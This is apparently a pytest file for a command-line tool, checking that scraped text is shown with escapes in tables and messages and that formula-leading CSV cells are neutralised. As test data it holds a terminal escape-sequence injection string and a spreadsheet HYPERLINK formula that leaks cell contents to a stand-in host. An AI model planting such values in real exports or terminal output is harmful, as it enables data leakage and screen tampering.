"""Scraped text cannot drive the terminal, nor a spreadsheet (issue 9 item 6)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from moltctl.textsafe import csv_cell, visible
from tests.helpers.ingest import agent, post, write_bundle

EVIL = "evil\x1b]0;pwned\x07\x1b[2J"
FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
RUN = "20260130T100000Z"


def test_visible_escapes_every_control_character():
    assert visible(EVIL) == "evil\\x1b]0;pwned\\x07\\x1b[2J"
    assert visible("a\u202eb\x9bc\x7fd\x00") == "a\\u202eb\\x9bc\\x7fd\\x00"
    assert visible("two\nlines\tand\r") == "two\\nlines\\tand\\r"
    assert visible("two\nlines\x1b", keep_newlines=True) == "two\nlines\\x1b"
    assert visible("Zoë ✨ 日本 \\back") == "Zoë ✨ 日本 \\back"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralises_formulas(lead):
    assert csv_cell(lead + "1+1") == "'" + lead + "1+1"


@pytest.mark.parametrize("value", ["plain", "a=b", "", -5, 3.5, None, "'quoted"])
def test_csv_cell_leaves_the_rest(value):
    assert csv_cell(value) == value


@pytest.fixture
def evil_db(tmp_path, cli):
    records = [
        agent("a1", name=EVIL, description=FORMULA, display_name="-2+3"),
        post("p1", "a1"),
    ]
    records[1]["author"]["name"] = EVIL
    r = cli("ingest-file", str(write_bundle(tmp_path / "b.ndjson", RUN, records)))
    assert r.exit_code == 0, r.stderr
    return cli


def _q(cli, fmt):
    r = cli("query", "agent-at", "--agent", EVIL, "--at", "2026-01-30T12:00:00Z", "-f", fmt)
    assert r.exit_code == 0, r.stderr
    return r.stdout


def test_table_cells_show_escapes(evil_db):
    out = _q(evil_db, "table")
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b" in out


def test_json_keeps_the_value(evil_db):
    assert json.loads(_q(evil_db, "json"))[0]["handle"] == EVIL


def test_csv_neutralises_formulas_and_keeps_text(evil_db):
    [row] = list(csv.DictReader(io.StringIO(_q(evil_db, "csv"))))
    assert row["handle"] == EVIL  # CSV is data: escapes would change it
    assert row["bio"] == "'" + FORMULA
    assert row["display_name"] == "'-2+3"
    assert row["karma"] == ""  # numbers are left alone


def test_messages_show_escapes(tmp_path, cli):
    bad = tmp_path / f"{EVIL}.ndjson"  # file names reach messages as they are
    bad.write_text("")
    r = cli("ingest-file", str(bad))
    assert r.exit_code == 1
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr
    assert "\\x1b" in r.stderr
